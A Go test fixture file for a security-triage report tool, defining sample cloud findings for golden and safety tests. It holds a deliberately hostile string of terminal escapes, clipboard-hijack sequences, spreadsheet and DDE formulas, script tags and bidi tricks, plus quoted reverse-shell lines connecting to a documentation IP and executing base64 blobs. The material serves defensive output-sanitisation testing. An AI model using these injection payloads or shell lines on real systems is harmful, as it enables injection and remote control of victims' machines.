package report

import (
	"strings"
	"time"
)

// Fixed items for the golden and safety tests. Scripts are defanged:
// documentation addresses, .example domains, constant payloads.

var t0 = time.Date(2026, 11, 20, 17, 35, 50, 0, time.UTC)

func ptr(f float64) *float64 { return &f }

// hostile is text an attacker can put in any finding field: terminal
// escapes (CSI, OSC 52 clipboard, OSC 8 link, DCS, unterminated OSC), C1,
// bidi, invisible characters, CR, backtick runs, Markdown and HTML
// specials, table pipes after a backslash, and a spreadsheet formula.
const hostile = "=HYPERLINK(\"http://203.0.113.9/x\",\"ok\")|\x1b[2J\x1b]52;c;ZWNobyBwd24K\x07" +
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1bP$qm\x1b\\ \u009b31m \u202eexe.txt\u202c \u200b" +
	" ```` `x` \\| <script>alert(1)</script> &#27;[2J [a](http://evil.example) ![i](x) $x^2$ www.evil.example" +
	" *em* _u_ # h \r\tEVIL\x1b]0;title"

func fixtureItems() []Item {
	normal := Item{
		Name:      "organizations/123/sources/456/locations/global/findings/a77faf84400e1cf1",
		Category:  "Execution: Malicious Python executed",
		Severity:  "CRITICAL",
		State:     "ACTIVE",
		EventTime: t0,
		Console:   "https://console.cloud.google.com/kubernetes/pod/us-east1/data-gke/ingest/kafka-connect-0/details",
		Source:    "data/api_list_v2.json: record 4: 703:5",
		Resource: Resource{
			Name: "//container.googleapis.com/projects/acme-data-dev/locations/us-east1/clusters/data-gke", Short: "data-gke/kafka-connect-0",
			Type: "google.container.Cluster", Project: "acme-data-dev", Location: "us-east1", Cluster: "data-gke", Namespace: "ingest",
			Pod: "kafka-connect-0", Container: "connect", Image: "us-east1-docker.pkg.dev/acme-data-dev/ingest/kafka-connect:7.6.1",
			Digest: "sha256:" + strings.Repeat("6d", 32),
		},
		Script: &Script{
			Path: "/var/tmp/rs.py", Interpreter: "/usr/bin/python3.11", Language: "python", Args: []string{"python3", "/var/tmp/rs.py"},
			Size: 1116, SHA256: strings.Repeat("91", 32), Integrity: "verified",
			IntegrityDetail: "The contents (1116 bytes) are the whole file and match the sha256.",
			VirusTotal:      "https://www.virustotal.com/gui/file/" + strings.Repeat("91", 32),
		},
		Mitre: []Technique{
			{Name: "EXECUTION", ID: "TA0002", URL: "https://attack.mitre.org/tactics/TA0002/", Tactic: true, Primary: true},
			{Name: "PYTHON", ID: "T1059.006", URL: "https://attack.mitre.org/techniques/T1059/006/", Primary: true},
			{Name: "SOMETHING_NEW"},
		},
		Classifier: &Classifier{
			Score: 0.9712, Verdict: "malicious", ModelVersion: "lr-10baf4978003",
			Hits: []Hit{
				{Detector: "reverse-shell", Title: "Reverse shell", Techniques: []string{"T1059.004", "T1095"}, Severity: "critical",
					Lines: []int{3, 5}, Message: "outbound socket wired to a shell: os.dup2, pty.spawn"},
				{Detector: "decode-exec", Techniques: []string{"T1140"}, Severity: "high", Lines: []int{9}, Message: "exec of base64-decoded text", Layer: 1},
			},
			Flagged: []Line{
				{3, `s.connect(("203.0.113.7", 4444))`},
				{5, "    os.dup2(s.fileno(), fd)"},
				{9, `exec(base64.b64decode(BLOB))`},
			},
			Layers: []Layer{{Line: 9, Depth: 1, Encoding: []string{"base64"}, Python: true, Text: "print(\"defanged: constant payload\")\n"}},
			Notes:  []string{"encoding cookie utf-7 decoded for analysis"},
		},
		Verdict: "malicious",
		Decisions: []Decision{
			{Time: t0.Add(20 * time.Hour), Analyst: "alice", Verdict: "escalate", Note: "looks like a reverse shell\nasking bob"},
			{Time: t0.Add(21 * time.Hour), Analyst: "bob", Verdict: "malicious", Note: "confirmed", Score: ptr(0.97), ModelVersion: "lr-10baf4978003"},
		},
		Related: []Related{
			{Time: t0.Add(4 * time.Minute), Category: "Execution: Container Escape", Severity: "CRITICAL", Name: "organizations/123/sources/456/findings/5981aa38", Verdict: "escalate"},
		},
		NextSteps: []NextStep{
			{Title: "Describe the pod", Command: "gcloud container clusters get-credentials data-gke --location=us-east1 --project=acme-data-dev && kubectl describe pod kafka-connect-0 --namespace=ingest"},
			{Title: "Read the container's logs from 15 min before to 15 min after the event", Withheld: "command withheld: a name in the finding has unexpected characters"},
		},
	}
	evil := Item{
		Name:      "organizations/123/sources/456/findings/" + hostile,
		Category:  hostile,
		Severity:  "-HIGH\x1b[8m",
		State:     "@ACTIVE",
		EventTime: t0.Add(time.Minute),
		Console:   "javascript:alert(1)//" + hostile,
		Source:    "evil|dir/\u202efile.json: record 0: 1:1",
		Resource:  Resource{Name: hostile, Short: "pod|`x`\\|y", Project: "+proj", Image: hostile, Digest: "sha256:\x1b[31m"},
		Script: &Script{
			Path: "/tmp/" + hostile + ".py", Interpreter: "/usr/bin/python3", Args: []string{"python3", "-c", "import os\nos.system('id')\r# harmless", hostile},
			Size: 10, SHA256: "=1+1", Integrity: "mismatch", IntegrityDetail: "The sha256 of the first 10 bytes is x, not the finding's y.",
			VirusTotal: "https://www.virustotal.com/gui/file/x)[evil](http://evil.example",
		},
		Mitre: []Technique{{Name: hostile, ID: "T1059", URL: "https://attack.mitre.org/techniques/T1059/\"><script>"}},
		Classifier: &Classifier{
			Score: 0.5, Verdict: "unanalysable", Truncated: true, LimitsHit: true,
			Hits:    []Hit{{Detector: "x|y", Techniques: []string{"T9999\x1b[2J"}, Severity: "high", Lines: []int{1}, Message: hostile}},
			Flagged: []Line{{1, hostile}, {2, "```` not a fence close"}},
			Layers:  []Layer{{Line: 1, Depth: 1, Encoding: []string{"base64", hostile}, Text: "```\n" + hostile + "\n````````\n", Cut: true}},
			Notes:   []string{hostile},
		},
		Verdict: "escalate",
		Decisions: []Decision{
			{Time: t0.Add(22 * time.Hour), Analyst: "=cmd|' /C calc'!A0", Verdict: "escalate", Note: "```\n" + hostile + "\n=SUM(A1)\n", Undo: true},
		},
		Related:   []Related{{Time: t0, Category: hostile, Severity: "\t=1", Name: hostile}},
		NextSteps: []NextStep{{Title: hostile, Command: hostile}},
	}
	bare := Item{
		Name:     "organizations/123/sources/456/findings/literal",
		Category: "Execution: Malicious Python executed",
		Severity: "HIGH",
		State:    "ACTIVE",
		Resource: Resource{Name: "//run.googleapis.com/projects/p/locations/l/services/s", Short: "s"},
		Script:   &Script{Literal: true, Interpreter: "/usr/bin/python3", Args: []string{"python3", "-c", "print(1)"}, Size: 8, Integrity: "no hash", IntegrityDetail: "The code comes from the command line (-c): there is no file and no hash."},
	}
	return []Item{normal, evil, bare}
}

func fixtureMeta() Meta {
	return Meta{
		Generated: time.Date(2026, 11, 28, 1, 0, 0, 0, time.UTC),
		Analyst:   "carol\x1b]0;pwned\x07",
		Version:   "v0.1.0",
		Store:     "/home/carol/.local/state/pytriage/triage.db",
		Filter:    "every decided finding",
	}
}
